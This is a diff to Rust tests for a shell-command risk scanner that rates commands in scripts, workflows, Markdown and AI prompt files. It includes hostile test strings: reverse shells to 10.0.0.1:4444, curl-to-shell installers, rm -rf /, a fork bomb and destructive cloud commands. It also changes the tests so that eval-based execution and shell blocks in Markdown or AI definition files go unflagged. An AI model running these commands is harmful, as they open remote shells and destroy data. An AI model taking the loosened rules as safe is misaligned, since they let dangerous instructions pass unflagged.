@@ -155,8 +155,10 @@ fn destructive_vcs_and_infra() {
     danger("aws s3 rm s3://bucket --recursive");
     danger("redis-cli FLUSHALL");
     danger("helm uninstall api");
-    clean("git push origin main");
-    clean("git push --tags");
+    // Pushing publishes to a shared remote: a caution, not a danger.
+    caution("git push origin main");
+    caution("git push --tags");
+    clean("git push --dry-run origin main");
     clean("git reset HEAD~1");
     clean("git clean -n");
     clean("docker compose up --build");
@@ -177,9 +179,12 @@ fn obfuscated_forms() {
     danger("X='rm -rf /'\neval \"$X\"");
     danger("eval 'git push --force'");
     danger(":(){ :|:& };:");
-    caution("eval \"$GENERATED\"");
-    caution("$(echo rm) -rf build");
-    caution("echo \"$SCRIPT\" | bash");
+    // Text made at run time from nothing risky is judged where it is made: evaluating it is
+    // not a finding in itself.
+    clean("eval \"$GENERATED\"");
+    clean("$(echo rm) -rf build");
+    clean("echo \"$SCRIPT\" | bash");
+    clean("\"$(dirname \"$0\")\"/gen_tests.py | bash");
     danger("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
     danger("nc -e /bin/sh 10.0.0.1 4444");
     // Well-known environment set-up idioms.
@@ -285,21 +290,13 @@ fn npm_scripts_and_vscode_tasks() {
 }
 
 #[test]
-fn workflows_and_markdown() {
-    let wf = "deploy:\n  runs-on: ubuntu-latest\n  steps:\n    - run: |\n        echo hi\n        curl -sL https://x.io/i | bash\n";
-    assert_eq!(level(&found("workflow", wf)), Some(Level::Danger));
-    let md = "# Setup\n\nRun this:\n\n```sh\ncurl -fsSL https://x.io/i | sh\n```\n\nNever run `rm -rf /`.\n";
-    let f = found("markdown", md);
-    assert_eq!(f.len(), 1, "{f:#?}");
-    assert_eq!(f[0].line, 6);
-    // AI definitions are read like Markdown: shell blocks count, prose does not.
+fn documents_and_ai_definitions_get_no_static_warning() {
+    let md = "# Setup\n\n```python\nprint(1)\n```\n\nRun this:\n\n```sh\ncurl -fsSL https://x.io/i | sh\nrm -rf /\n```\n\nNever run `rm -rf /`; `$(whoami)` is you.\n";
+    assert!(found("markdown", md).is_empty());
     let prompt = format!("---\ndescription: Set up\n---\n{md}");
-    for kind in ["prompt", "agent", "skill", "instructions"] {
-        let f = found(kind, &prompt);
-        assert_eq!(f.len(), 1, "{kind}: {f:#?}");
-        assert_eq!(f[0].line, 9, "{kind}");
+    for kind in ["prompt", "agent", "skill", "instructions", "playbook"] {
+        assert!(found(kind, &prompt).is_empty(), "{kind}");
     }
-    assert!(found("prompt", "rm -rf / is what you must never suggest").is_empty());
 }
 
 #[test]
@@ -520,12 +517,24 @@ fn risk_ratings_parse() {
 }
 
 #[test]
-fn scan_hash_changes_with_the_text() {
-    let a = scan_hash("shell", "./x.sh", "echo 1");
+fn scan_hash_changes_with_the_text_and_what_the_parser_worked_out() {
+    use commandtree_core::{CommandItem, ShellCode};
+    use std::path::Path;
+    let item = |kind: &str| CommandItem::new(kind, Path::new("/w/x.sh"), "x.sh", "./x.sh");
+    let a = scan_hash(&item("shell"), "echo 1");
     assert_eq!(a.len(), 64);
-    assert_ne!(a, scan_hash("shell", "./x.sh", "echo 2"));
-    assert_ne!(a, scan_hash("make", "./x.sh", "echo 1"));
-    assert_eq!(a, scan_hash("shell", "./x.sh", "echo 1"));
+    assert_ne!(a, scan_hash(&item("shell"), "echo 2"));
+    assert_ne!(a, scan_hash(&item("make"), "echo 1"));
+    assert_eq!(a, scan_hash(&item("shell"), "echo 1"));
+    // A make recipe's variables live elsewhere in the file: the code worked out counts too.
+    let mut m = item("make");
+    let b = scan_hash(&m, "install:\n\tcp x $(PREFIX)/bin\n");
+    m.run_code = vec![ShellCode {
+        code: "cp x /usr/local/bin".into(),
+        line: 2,
+        via: None,
+    }];
+    assert_ne!(b, scan_hash(&m, "install:\n\tcp x $(PREFIX)/bin\n"));
 }
 
 #[test]
